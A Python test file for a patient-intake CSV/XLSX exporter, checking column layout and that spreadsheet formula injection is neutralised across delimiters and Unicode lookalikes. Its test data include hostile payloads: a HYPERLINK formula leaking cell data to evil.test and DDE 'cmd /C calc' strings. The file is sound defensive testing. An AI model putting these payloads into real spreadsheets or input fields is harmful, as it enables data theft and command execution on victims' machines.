"""The export writers: column order, CSV and XLSX shape, formula neutralisation (no I/O)."""

from __future__ import annotations

import csv
import io
import unicodedata
import zipfile
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook

from repositories.exports import ExportFormat
from service.exports import registry
from service.exports.formats import (
    COLUMNS,
    is_formula_like,
    neutralise,
    text_values,
    write_csv,
    write_xlsx,
)
from service.exports.registry import FILE_FORMATS
from tests.support.records import make_record, numbered_record

SUBMITTED = datetime(2026, 11, 20, 10, 30, 15, tzinfo=UTC)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
HOSTILE = (
    '=HYPERLINK("http://evil.test/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\u3000\uff1d1+1",
    "\u200b=1+1",
    "\uff0bcalc",
    "\uff0dcalc",
    "\uff20calc",
)


def known_record():
    return make_record(
        submitted_at=SUBMITTED,
        record_id="0123456789abcdef",
        name="José Müller-Ñúñez",
        address='Calle "Mayor", 5\n2º izquierda',
        medical_conditions=("Asthma", "Type 2 diabetes"),
        current_medications=("Salbutamol", "Metformin 500mg"),
    )


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def written_csv(records) -> bytes:
    file = io.BytesIO()
    write_csv(records, file)
    return file.getvalue()


def written_xlsx(records, **options) -> bytes:
    file = io.BytesIO()
    write_xlsx(records, file, **options)
    return file.getvalue()


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_a_value_starting_with_a_formula_trigger_is_formula_like(trigger):
    assert is_formula_like(trigger + "1+1")
    assert neutralise(trigger + "1+1") == "'" + trigger + "1+1"


# Pieces after a separator a spreadsheet may split on (";" in Spanish, German or French Excel,
# tab, "|", ",", line breaks), after optional blanks or quotes: (typed, written to the CSV).
SEPARATED = (
    ('Calle Mayor 1;=HYPERLINK("http://x";"y")', 'Calle Mayor 1;\'=HYPERLINK("http://x";"y")'),
    ("Calle Mayor 1; =1+1", "Calle Mayor 1; '=1+1"),
    ('Calle Mayor 1; "=1+1"', 'Calle Mayor 1; "\'=1+1"'),
    ('Calle 1;""=1+1', 'Calle 1;""\'=1+1'),
    ("Calle 1,@SUM(1+1)", "Calle 1,'@SUM(1+1)"),
    ("Calle 1|+cmd", "Calle 1|'+cmd"),
    ("Calle 1\t-2+3", "Calle 1\t'-2+3"),
    ("Calle 1;\u200b\uff1d1+1", "Calle 1;\u200b'\uff1d1+1"),
    ("Calle 1\n=1+1", "Calle 1\n'=1+1"),
    ("Calle 1\r\n=1+1", "Calle 1\r\n'=1+1"),
    ("Calle 1;;=1+1", "Calle 1;;'=1+1"),
    # A tab or carriage return starts a formula-like piece and also starts the next piece.
    ("Calle 1;\t=1+1", "Calle 1;'\t'=1+1"),
    ("\t=1+1", "'\t'=1+1"),
    ("\r=1+1", "'\r'=1+1"),
)
# Ordinary Spanish addresses and lists: accepted and written exactly as typed.
ORDINARY_WITH_SEPARATORS = (
    "Calle X 3; 2º izq",
    "Calle Mayor 5, 3ºB; Madrid",
    "Avda. Diagonal 640 | 08017 Barcelona",
    "Asthma; Type 2 diabetes",
    "Calle 1;'=1+1",  # already inert
    "1-2; 3+4, 5@6",
)


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_values_are_formula_like_even_after_leading_blanks(value):
    assert is_formula_like(value)
    assert neutralise(value).startswith("'")
    if not any(separator in value for separator in "\t\r"):
        assert neutralise(value) == "'" + value


@pytest.mark.parametrize(("value", "written"), SEPARATED)
def test_a_trigger_after_any_separator_is_made_inert_and_the_text_stays_readable(value, written):
    assert neutralise(value) == written


@pytest.mark.parametrize("value", ORDINARY_WITH_SEPARATORS)
def test_addresses_and_lists_with_separators_are_kept_as_typed(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", ["Maria", "a=b", "1-2", "", "   ", "O'Brien", "'=1"])
def test_ordinary_values_are_left_as_they_are(value):
    assert not is_formula_like(value)
    assert neutralise(value) == value


def test_text_values_follow_the_column_order():
    assert COLUMNS == (
        "record_id", "submitted_at", "name", "date_of_birth", "gender", "address",
        "medical_conditions", "current_medications", "phone", "language", "consent_at",
        "whatsapp_user_id",
    )  # fmt: skip
    assert text_values(known_record()) == [
        "0123456789abcdef",
        "2026-11-20T10:30:15+00:00",
        "José Müller-Ñúñez",
        "1980-02-03",
        "female",
        'Calle "Mayor", 5\n2º izquierda',
        "Asthma; Type 2 diabetes",
        "Salbutamol; Metformin 500mg",
        "+34612345678",
        "es",
        "2026-11-20T10:25:15+00:00",
        "",
    ]


def test_a_patient_known_only_by_a_bsuid_has_an_empty_phone_and_their_bsuid():
    record = make_record(wa_id=None, bsuid="ES.1410018717833190")
    (row,) = csv_rows(written_csv([record]))[1:]
    assert row[COLUMNS.index("phone")] == ""
    assert row[COLUMNS.index("whatsapp_user_id")] == "ES.1410018717833190"
    sheet = load_workbook(io.BytesIO(written_xlsx([record])), read_only=True)["intakes"]
    values = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert values[1][COLUMNS.index("phone")] in ("", None)
    assert values[1][COLUMNS.index("whatsapp_user_id")] == "ES.1410018717833190"


def test_a_patient_known_by_both_has_the_phone_and_the_bsuid():
    record = make_record(wa_id="34612345678", bsuid="ES.1410018717833190")
    (row,) = csv_rows(written_csv([record]))[1:]
    assert row[COLUMNS.index("phone")] == "'+34612345678"  # made inert, as every + is
    assert row[COLUMNS.index("whatsapp_user_id")] == "ES.1410018717833190"


def test_csv_is_utf8_with_a_bom_crlf_rows_and_rfc4180_quoting():
    data = written_csv([known_record()])
    assert data.startswith(b"\xef\xbb\xbfrecord_id,submitted_at,name,")
    assert data.endswith(b"\r\n")
    assert b'"Calle ""Mayor"", 5\n2\xc2\xba izquierda"' in data  # newline kept inside the quotes
    expected = text_values(known_record())
    expected[COLUMNS.index("phone")] = "'+34612345678"  # "+" starts a formula: prefixed too
    assert csv_rows(data) == [list(COLUMNS), expected]


def test_csv_with_no_records_is_the_header_only():
    assert written_csv([]) == b"\xef\xbb\xbf" + ",".join(COLUMNS).encode() + b"\r\n"


def test_csv_writer_leaves_the_callers_file_open():
    file = io.BytesIO()
    assert write_csv(iter([known_record()]), file) == 1
    assert not file.closed


def test_csv_neutralises_hostile_values_in_every_patient_field():
    records = [
        make_record(
            name=value, address=value, medical_conditions=(value,), current_medications=(value,)
        )
        for value in HOSTILE
    ]
    rows = csv_rows(written_csv(records))[1:]
    for row, value in zip(rows, HOSTILE, strict=True):
        for column in ("name", "address", "medical_conditions", "current_medications"):
            assert row[COLUMNS.index(column)] == neutralise(value)
            assert row[COLUMNS.index(column)].startswith("'")
        for cell in row:
            assert cell.startswith("'") or not is_formula_like(cell)


def could_start_a_formula(cell: str) -> bool:
    """Stricter than the exporter's own check: quotes a parser left in place are skipped too."""
    for char in cell:
        if char in TRIGGERS or char in "\ufe62\ufe63\ufe66\ufe6b":
            return True
        if not (char.isspace() or char == '"' or unicodedata.category(char) == "Cf"):
            return False
    return False


def hostile_separated_records() -> list:
    values = [typed for typed, _ in SEPARATED] + list(HOSTILE)
    return [
        make_record(
            name=value,
            address=value,
            # Lists are joined with "; ": every item that starts with a trigger is a cell too.
            medical_conditions=("Asthma", value, "=1+1", " -2+3"),
            current_medications=("@SUM(1)", value),
        )
        for value in values
    ]


@pytest.mark.parametrize("delimiter", [";", "\t", "|", ","])
def test_csv_read_with_another_delimiter_has_no_formula_cell(delimiter):
    """Excel in a ";" locale, or a tab/pipe import, splits our rows differently: no piece of
    any row, however split, may start a formula."""
    text = written_csv(hostile_separated_records()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    cells = [cell for row in rows for cell in row]
    assert len(rows) > len(SEPARATED) + len(HOSTILE)  # split into more pieces than records
    assert [cell for cell in cells if could_start_a_formula(cell)] == []


def test_a_spanish_address_with_a_semicolon_reads_back_as_typed():
    record = make_record(address="Calle X 3; 2º izq", medical_conditions=("Asma", "Diabetes"))
    (row,) = csv_rows(written_csv([record]))[1:]
    assert row[COLUMNS.index("address")] == "Calle X 3; 2º izq"
    assert row[COLUMNS.index("medical_conditions")] == "Asma; Diabetes"


def test_xlsx_has_a_bold_frozen_header_and_typed_cells():
    book = load_workbook(io.BytesIO(written_xlsx([known_record()])))
    assert book.sheetnames == ["intakes"]
    sheet = book["intakes"]
    assert sheet.freeze_panes == "A2"
    header, row = list(sheet.iter_rows())
    assert [cell.value for cell in header] == list(COLUMNS)
    assert all(cell.font.b for cell in header)
    values = {name: cell for name, cell in zip(COLUMNS, row, strict=True)}
    assert values["submitted_at"].value == datetime(2026, 11, 20, 10, 30, 15)  # naive UTC
    assert values["submitted_at"].is_date
    assert values["date_of_birth"].value.date() == date(1980, 2, 3)
    assert values["date_of_birth"].is_date
    assert values["date_of_birth"].number_format == "yyyy-mm-dd"
    assert values["consent_at"].value == datetime(2026, 11, 20, 10, 25, 15)
    expected_text = dict(zip(COLUMNS, text_values(known_record()), strict=True))
    for name in ("record_id", "name", "gender", "address", "medical_conditions"):
        assert values[name].value == expected_text[name]
        assert values[name].data_type == "s"
    assert values["phone"].value == "+34612345678"
    assert values["phone"].data_type == "s"


def test_xlsx_stores_hostile_values_as_text_never_as_formulas():
    records = [
        make_record(name=value, address=value, current_medications=(value, "#N/A"))
        for value in HOSTILE
    ]
    data = written_xlsx(records)
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        sheet_xml = package.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(data))["intakes"]
    rows = list(sheet.iter_rows(min_row=2))
    for row, value in zip(rows, HOSTILE, strict=True):
        cells = {name: cell for name, cell in zip(COLUMNS, row, strict=True)}
        assert all(cell.data_type != "f" for cell in row)
        # Kept as typed, shown as text (an XML parser reads a bare CR back as LF).
        assert cells["name"].value == value.replace("\r", "\n")
        assert cells["name"].data_type == "s"
        assert cells["name"].quotePrefix
        assert cells["address"].quotePrefix
        assert cells["current_medications"].value == value.replace("\r", "\n") + "; #N/A"
        assert cells["current_medications"].data_type == "s"


def test_xlsx_error_code_lookalikes_stay_text():
    sheet = load_workbook(io.BytesIO(written_xlsx([make_record(name="#N/A")])))["intakes"]
    cell = sheet.cell(row=2, column=COLUMNS.index("name") + 1)
    assert (cell.value, cell.data_type) == ("#N/A", "s")


def test_xlsx_starts_a_new_sheet_before_the_row_limit():
    records = [numbered_record(index) for index in range(5)]
    book = load_workbook(io.BytesIO(written_xlsx(records, max_rows_per_sheet=3)))
    assert book.sheetnames == ["intakes", "intakes 2", "intakes 3"]
    names = []
    for sheet in book.worksheets:
        rows = list(sheet.iter_rows(values_only=True))
        assert rows[0] == COLUMNS
        assert len(rows) <= 3
        assert sheet.freeze_panes == "A2"
        names += [row[COLUMNS.index("name")] for row in rows[1:]]
    assert names == [f"Patient Number {index}" for index in range(5)]


def test_xlsx_with_no_records_is_the_header_only():
    book = load_workbook(io.BytesIO(written_xlsx([])))
    assert book.sheetnames == ["intakes"]
    assert list(book["intakes"].iter_rows(values_only=True)) == [COLUMNS]


def test_xlsx_rejects_a_sheet_too_small_for_a_row():
    with pytest.raises(ValueError, match="max_rows_per_sheet"):
        write_xlsx([], io.BytesIO(), max_rows_per_sheet=1)


def test_writers_consume_records_as_they_come():
    consumed = []

    def records():
        for index in range(3):
            consumed.append(index)
            yield numbered_record(index)

    assert write_csv(records(), io.BytesIO()) == 3
    assert write_xlsx(records(), io.BytesIO()) == 3
    assert consumed == [0, 1, 2, 0, 1, 2]


# -- the format registry ------------------------------------------------------------------------
def test_every_export_format_is_listed_once_with_a_label_and_its_zip_members():
    assert [entry.format for entry in FILE_FORMATS] == list(ExportFormat)
    assert [entry.label for entry in FILE_FORMATS] == ["CSV", "Excel", "FHIR R4"]
    assert registry.of(ExportFormat.FHIR).members == (
        "Patient.ndjson",
        "QuestionnaireResponse.ndjson",
        "Consent.ndjson",
        "Condition.ndjson",
        "MedicationStatement.ndjson",
        "Questionnaire.json",
    )


@pytest.mark.parametrize(
    ("requested", "expected"),
    [("csv", "csv"), ("xlsx", "xlsx"), (" Excel ", "xlsx"), ("FHIR", "fhir"), ("json", None)],
)
def test_a_requested_format_name_picks_its_registry_entry(requested, expected):
    entry = registry.by_name(requested)
    assert (entry.format if entry else None) == expected
